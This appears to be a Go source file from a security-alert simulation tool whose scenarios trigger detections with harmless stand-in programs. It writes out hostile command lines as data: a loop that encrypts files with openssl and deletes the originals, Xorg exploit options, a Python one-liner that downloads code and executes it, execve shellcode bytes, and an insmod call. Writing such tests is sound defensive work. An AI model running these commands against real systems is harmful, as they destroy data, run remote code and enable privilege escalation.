package simulate

import "context"

// The scenarios of this file play payloads: what encrypts files, goes into the
// kernel, or is handed to a program with a hole.

var ransomware = Scenario{
	Name:      "ransomware",
	Title:     "files are encrypted and removed",
	AlertType: "HF_RansomwareBehavior",
	Summary: "A shell loops over a file of its own below /tmp, runs a program named openssl on it and removes the file. " +
		harmless,
	Run: func(ctx context.Context, s *Stage) error {
		if _, err := s.Write("files/letter", "dear\n"); err != nil {
			return err
		}
		openssl, err := s.StandIn("openssl")
		if err != nil {
			return err
		}
		return s.Shell(ctx, `for f in files/*; do `+openssl+` enc -aes-256-cbc -k `+s.Token+` -in "$f" -out "$f.locked"; rm -f "$f"; done`)
	},
}

var xorgExploit = Scenario{
	Name:      "xorg-exploit",
	Title:     "the X server is told to write its log over a system file",
	AlertType: "HF_XorgExploitation",
	Summary:   "Runs a program named Xorg with the options of the exploit. No file is written. " + harmless,
	Run:       standIn("Xorg", "-fp", "{token}", "-logfile", "/etc/{token}", ":99"),
}

var pythonDownloader = Scenario{
	Name:      "python-downloader",
	Title:     "a line of Python fetches and runs",
	AlertType: "HF_PythonEncodedDownloader",
	Summary:   "Runs a program named python3 with a line that fetches from an address of the documentation. " + harmless,
	Run:       standIn("python3", "-c", `import urllib.request as u;exec(u.urlopen("http://192.0.2.7/{token}").read())`),
}

var shellcode = Scenario{
	Name:      "shellcode",
	Title:     "machine code is written out in a command line",
	AlertType: "HF_ShellcodeGenerated",
	Summary:   "Runs a program named perl with the text of a known piece of machine code as its argument. " + harmless,
	Run:       standIn("perl", "-e", `print "\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x50\x53\x89\xe1\xb0\x0b\xcd\x80"`, "{token}"),
}

var oddKernelModule = Scenario{
	Name:      "odd-kernel-module",
	Title:     "a shared object is loaded as a kernel module",
	AlertType: "HF_SuspiciousKernelModule",
	Summary:   "Runs a program named insmod with the name of a shared object that does not exist. " + harmless,
	Run:       standIn("insmod", "{dir}/libhide.so"),
}
